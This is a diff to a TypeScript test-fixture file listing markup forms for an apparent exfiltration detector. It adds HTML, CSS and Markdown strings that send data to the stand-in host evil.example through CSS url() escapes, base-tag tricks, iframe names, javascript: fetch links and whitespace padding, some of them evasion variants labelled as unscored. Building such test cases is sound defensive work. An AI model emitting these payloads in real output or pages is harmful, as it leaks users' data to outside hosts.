@@ -76,6 +76,7 @@ export const ADDRESS_FORMS: readonly Form[] = [
     'an escape without slashes',
     (data) => raw`<style>p{background:url("https\3a evil.example/p.png?h=${data}")}</style>`,
   ],
+  ['base and a style sheet', (data) => `<base href="https:evil.example"><style>@import "p.css?h=${data}";</style>`],
   // Markdown
   ['a Markdown image', (data) => raw`![x](https:\\evil.example/p.png?h=${data})`],
   ['a Markdown image without a scheme', (data) => raw`![x](/\evil.example/p.png?h=${data})`],
@@ -101,6 +102,30 @@ export const ADDRESS_FORMS: readonly Form[] = [
 
 /** More ways, whose data the rules do not connect with the address: a program does, or quotes and JSON read otherwise. */
 export const UNSCORED_FORMS: readonly Form[] = [
+  [
+    'a line break after escapes',
+    (data) => `<style>p{background:url("\\2f\\2f\\\nevil.example/p.png?h=${data}")}</style>`,
+  ],
+  ['a line break in a string', (data) => `<style>p{background:url("ht\\\ntps:evil.example/p.png?h=${data}")}</style>`],
+  ['an autolink without slashes', (data) => `<http:evil.example/p?h=${data}>`],
+  [
+    'an escape that a line break ends',
+    (data) => `<style>p{background:url("\\2f\r\n/evil.example/p.png?h=${data}")}</style>`,
+  ],
+  [
+    'letters with backslashes',
+    (data) => raw`<p style="background:url(\h\t\t\p\s\:\/\/evil.example/p.png?h=${data})">a</p>`,
+  ],
+  ['many spaces in front', (data) => raw`![x](${' '.repeat(200)}/\evil.example/p.png?h=${data})`],
+  ['base and a script', (data) => `<base href="//evil.example"><script>fetch("p?h=${data}")</script>`],
+  ['the name of a frame', (data) => `<iframe src="https://evil.example/" name="${data}"></iframe>`],
+  ['the name of a frame in front', (data) => `<iframe name = ${data} src="https://evil.example/"></iframe>`],
+  ['the name of a new window', (data) => `<a href="https://evil.example/" target="${data}">Go</a>`],
+  ['the policy of a frame', (data) => `<iframe src="https://evil.example/" csp="report-uri /${data}"></iframe>`],
+  [
+    'a script address behind spaces',
+    (data) => `<a href="${' '.repeat(200)}javascript:fetch('/'+'/evil.example/${data}')">Go</a>`,
+  ],
   ['a script address in Markdown', (data) => `[x](javascript:fetch('//evil.example/p?h='+'${data}'))`],
   ['no scheme, a backslash and a slash', (data) => raw`<img src="\/evil.example/p.png?h=${data}">`],
   ['a script address', (data) => `<a href="javascript:fetch('//evil.example/p?h='+'${data}')">Go</a>`],
@@ -141,6 +166,15 @@ export const HARMLESS_FORMS: readonly Form[] = [
   ['code beside an address', (data) => `\`https://docs.example/a\`,${data}`],
   ['a page', (data) => `<script src="https://cdn.example/a.js"></script><p class="a">${data}</p>`],
   ['text about a tag', (data) => `Add \`<script>\` with https://cdn.example/a.js. Then ask ${data}.`],
+  [
+    'the name of a field',
+    (data) => `<input name="a" value="${data}"> <iframe title="${data}" src="/a" name="b"></iframe>`,
+  ],
+  [
+    'text behind many spaces',
+    (data) =>
+      `See https://docs.example/a${' '.repeat(200)}${data} and "https://docs.example/a"${' '.repeat(30)}\n${data}`,
+  ],
   ['a mail address', (data) => `[mail](mailto:${data}) <a href="mailto:${data}">mail</a>`],
   ['a label', (data) => `http: ${data}, data: ${data}, JavaScript: ${data}`],
   ['a comparison', (data) => `if (a <b && c> d) return "//" + "${data}"`],
